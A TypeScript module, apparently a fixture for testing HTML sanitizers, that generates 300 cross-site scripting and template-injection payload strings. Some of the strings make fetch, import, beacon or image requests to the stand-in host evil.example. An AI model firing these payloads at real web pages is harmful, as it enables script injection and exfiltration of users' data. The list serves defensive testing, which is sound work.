/** Texts that would run a script or send a request if a page took them for HTML, a link or a template. */

const run = 'window.payloadRan=true'
const away = 'https://evil.example/'

const forms: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</style><script>${script}</script>`,
  (script) => `<ScRiPt>${script}</sCrIpT>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img src="${away}a.png" onload="${script}">`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  (script) => `<body onload=${script}>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `[x](javascript:${script})`,
  (script) => `![x](${away}markdown.png "${script}")`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<audio src=x onerror=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<select autofocus onfocus=${script}>`,
  (script) => `<marquee onstart=${script}>`,
  (script) => `<math><mi//xlink:href="data:x,<script>${script}</script>">`,
  (script) => `<form action="javascript:${script}"><button>x</button></form>`,
  (script) => `<button form=x formaction="javascript:${script}">x</button>`,
  (script) => `<link rel=stylesheet href="${away}a.css"><!--${script}-->`,
  (script) => `<link rel=prefetch href="${away}prefetch?${script}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<base href="${away}"><script src="${script}"></script>`,
  (script) => `<style>@import '${away}a.css';</style>${script}`,
  (script) => `<div style="background:url(${away}bg.png)">${script}</div>`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<![CDATA[<img src=x onerror=${script}>]]>`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `&#60;img src=x onerror=${script}&#62;`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `#{${script}}`,
  (script) => `<%= ${script} %>`,
  (script) => `';${script};//`,
  (script) => `");${script};//`,
  (script) => `{"__proto__":{"payloadRan":"${script}"}}`,
  (script) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${script}>"}}`,
  (script) => `data:text/html,<script>${script}</script>`,
]

const scripts = [
  run,
  `alert('${away}')`,
  `fetch('${away}fetch')`,
  `new/**/Image().src='${away}image'`,
  `import('${away}module.js')`,
  `navigator.sendBeacon('${away}beacon')`,
]

/** 300 of them. */
export const payloads: readonly string[] = forms.flatMap((form) => scripts.map(form))
